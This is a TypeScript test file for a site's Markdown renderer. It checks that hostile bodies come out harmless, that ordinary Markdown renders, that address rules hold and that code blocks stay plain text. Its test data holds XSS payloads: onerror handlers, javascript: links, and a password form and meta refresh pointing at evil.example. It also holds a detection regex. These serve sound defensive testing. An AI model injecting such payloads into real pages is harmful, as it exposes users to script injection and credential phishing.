import { parse } from "node-html-parser";
import { describe, expect, it } from "vitest";
import { createMarkdownRenderer } from "../../src/astro/markdownProcessor.ts";
import type { PageLinkContext } from "../../src/astro/termLinks.ts";
import { keepsAddress } from "../../src/core/checks/htmlAllowlist.ts";
import { parseMarkdown } from "../../src/core/content/markdownTree.ts";
import { bodyMentions } from "../../src/core/graph/markdownMentions.ts";
import { MentionIndex } from "../../src/core/graph/mentions.ts";
import { unsafeMarkup } from "../../src/core/publish/outputScan.ts";

const renderer = createMarkdownRenderer("/", new Map([["bias", {}]]));

/** A body as the site renders it. */
async function render(markdown: string, glossaryPage?: PageLinkContext): Promise<string> {
  return (await (await renderer).render(markdown, { frontmatter: { glossaryPage } })).code;
}

/** What the build's output scan finds in a rendered body, placed in the body of a page. */
const findings = (body: string) => unsafeMarkup(`<!DOCTYPE html><html><head></head><body>${body}</body></html>`, "/");

/** Bodies an attacker might send, each of which the renderer must make harmless on its own. */
const HOSTILE: Record<string, string> = {
  "an image handler after a closing tag": "</p>\n<img src=x onerror=alert(1)>",
  "a javascript: link after a closing tag": '</p>\n<a href="javascript:alert(1)">claim your prize</a>',
  "a password form after a closing tag": '</div>\n<form action="https://evil.example/"><input type=password></form>',
  "a refresh between comments": '<!-- --><meta http-equiv="refresh" content="0;url=https://evil.example/"><!-- -->',
  "script addresses in Markdown":
    "[a](javascript:alert(1)) [b](JaVa&#09;ScRiPt:alert(1)) ![c](data:image/png;base64,AA)",
  "a script address by reference": "[r][ref]\n\n[ref]: vbscript:msgbox",
  "script, style and frames": "<script>alert(1)</script><style>*{display:none}</style><iframe src=//evil.example/>",
  "objects, base and link": "<object data=x></object><embed src=x><base href=//evil.example/><link rel=x href=//e>",
  "SVG and MathML": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mi href="javascript:x">',
  "srcset, formaction and toggles": "<img srcset='javascript:x 1x'><button formaction=javascript:x>b</button>",
  "a handler on an allowed tag": '<kbd onclick="steal()">K</kbd> <details open ontoggle=alert(1)>x</details>',
  "a handler smuggled by a code fence's language": '```js"onmouseover="alert(1)\nconst a = 1;\n```',
  "HTML in a code block of an unknown language": "```nosuchlang\n<img src=x onerror=alert(1)>\n```",
  "a remote image": "![a chart](https://example.org/chart.png) ![b](//cdn.example/b.png)",
  "an unclosed tag over lists and quotes": "<mark>\n\n- <img src=x onerror=alert(1)>\n\n> <a href=javascript:x>q",
};

describe("the renderer, given hostile bodies", () => {
  it.each(Object.entries(HOSTILE))("writes nothing unsafe for %s", async (_, markdown) => {
    const html = await render(markdown);
    expect(findings(html)).toEqual([]);
    // Code shown as plain text may say anything; the markup around it may not.
    const markup = html.replace(/<code[^>]*>[^<]*<\/code>/g, "<code></code>");
    expect(markup.toLowerCase()).not.toMatch(
      /\son[a-z]+=|javascript:|vbscript:|data:|<(script|style|iframe|form|meta)/,
    );
  });

  it("keeps what an allowed tag holds and drops the rest of what is not allowed", async () => {
    expect(await render('Press <kbd onclick="steal()">Ctrl</kbd>.')).toBe("<p>Press <kbd>Ctrl</kbd>.</p>\n");
    expect(await render("</p>\n<img src=x onerror=alert(1)>")).toBe("\n<img>\n");
    expect(await render("[a](javascript:alert(1)) ![b](https://example.org/b.png)")).toBe(
      '<p><a>a</a> <img alt="b"></p>\n',
    );
  });
});

describe("the renderer, given ordinary Markdown", () => {
  it("keeps tables, task lists, footnotes, code, images, links and the allowed raw tags", async () => {
    const html = await render(
      [
        "| Left | Right |\n|:--|--:|\n| a | b |",
        "- [x] done\n- [ ] to do",
        "A note[^1] and ~~struck~~ text.",
        "```python\ndef f(): return 1\n```",
        '![a chart](/images/chart.png "Chart") [web](https://example.org/) [mail](mailto:a@example.org) [up](../x/)',
        "Press <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <mark>marked</mark>,<br>next <!-- editors -->",
        "[^1]: The note.",
      ].join("\n\n"),
    );
    const page = parse(html);
    expect(page.querySelectorAll("th")[1]?.getAttribute("style")).toBe("text-align: right");
    expect(page.querySelector("input")?.attributes).toEqual({ type: "checkbox", checked: "", disabled: "" });
    expect(page.querySelector("li.task-list-item")).not.toBeNull();
    for (const link of page.querySelectorAll('a[href^="#user-content-"]')) {
      expect(page.getElementById((link.getAttribute("href") ?? "").slice(1))).not.toBeNull();
    }
    expect(html).toContain('<pre class="language-python" data-language="python"><code class="language-python">');
    expect(html).toContain('<span class="token keyword">def</span>');
    expect(page.querySelector("img")?.attributes).toEqual({ src: "/images/chart.png", alt: "a chart", title: "Chart" });
    expect(page.querySelector('a[href="https://example.org/"]')?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(page.querySelectorAll('a[href="mailto:a@example.org"], a[href="../x/"]')).toHaveLength(2);
    expect(html).toContain("<kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <mark>marked</mark>,<br>");
    expect(html).toContain("<!-- editors -->");
    expect(findings(html)).toEqual([]);
  });

  it("gives images under a sub-path the base path, as links get it", async () => {
    const html = await (await createMarkdownRenderer("/glossary")).render("![x](/images/x.png) [y](/terms/y/)");
    expect(html.code).toBe('<p><img src="/glossary/images/x.png" alt="x"> <a href="/glossary/terms/y/">y</a></p>\n');
  });

  it("links the mentions the validator lists, raw HTML around them included", async () => {
    const markdown = "Press <kbd>bias</kbd>, then <mark>bias</mark> again.";
    const index = new MentionIndex([{ slug: "bias", name: "Bias" }]);
    const listed = bodyMentions({ slug: "x", bodyLine: 1 }, parseMarkdown(markdown), index, []);
    const linked = parse(await render(markdown, { slug: "x", links: [], mentions: index })).querySelectorAll("a");
    expect(listed.map((mention) => mention.position)).toEqual([{ line: 1, column: 12 }]);
    expect(linked.map((link) => [link.parentNode?.tagName, link.textContent])).toEqual([["KBD", "bias"]]);
  });
});

describe("the validator's address rule", () => {
  const addresses = [
    ...["https://example.org/", "http://example.org/a b", "mailto:editors@example.org", "/terms/bias/", "#part"],
    ...["HTTPS://example.org/", "<http ://example.org/>", "<java\tscript:alert(1)>", "javascript:alert(1)"],
    ...["data:text/html,x", "ht%74p://example.org/", "a:b", "/a?b:c", "//cdn.example/x", "x.png", "<https://e.org/ä>"],
  ];

  it.each(addresses)("keeps a link to %j exactly when the renderer does", async (address) => {
    const html = parse(await render(`[x](${address})`));
    expect(keepsAddress("a", address.replace(/^<|>$/g, ""))).toBe(html.querySelector("a")?.hasAttribute("href"));
  });

  it.each(addresses)("keeps an image at %j exactly when the renderer does", async (address) => {
    const image = parse(await render(`![x](${address})`)).querySelector("img");
    // An address with a space outside angle brackets is no image at all, only text.
    if (image) expect(keepsAddress("img", address.replace(/^<|>$/g, ""))).toBe(image.hasAttribute("src"));
    expect(image?.hasAttribute("__astro_image_") ?? false).toBe(false);
  });
});

describe("code blocks", () => {
  const parseCode = (html: string) => parse(html, { blockTextElements: { script: true, style: true } });
  it("show the code of a language Prism does not know as text, never as markup", async () => {
    const html = await render('```zz\n<a href="https://evil.example/login">Log in</a> <h2>Fake</h2>\n```');
    const code = parseCode(html).querySelector("pre code");
    expect(code?.querySelectorAll("*")).toEqual([]);
    expect(code?.textContent).toBe('<a href="https://evil.example/login">Log in</a> <h2>Fake</h2>\n');
  });

  it("keep their text when Prism cannot load the language or the info string carries markup", async () => {
    expect(parseCode(await render("```meta\nx = 1\n```")).querySelector("pre code")?.textContent).toBe("x = 1\n");
    const odd = parseCode(await render("```foo<img src=x onerror=alert(1)>\ncode text\n```"));
    expect(odd.querySelector("pre code")?.textContent).toContain("code text");
    expect(odd.querySelectorAll("img")).toEqual([]);
  });

  it("are still highlighted in a language Prism knows", async () => {
    const code = parseCode(await render("```js\nconst a = 1 < 2;\n```")).querySelector("pre code");
    expect(code?.querySelector("span.token.keyword")?.textContent).toBe("const");
    expect(code?.textContent).toBe("const a = 1 < 2;");
  });
});

describe("links to other sites", () => {
  it.each(["https://example.org/", "//example.org/x", "http:example.org", "http:/example.org/a"])(
    "get rel=noopener noreferrer however they are written: %s",
    async (address) => {
      const link = parse(await render(`[x](${address})`)).querySelector("a");
      expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
    },
  );
});
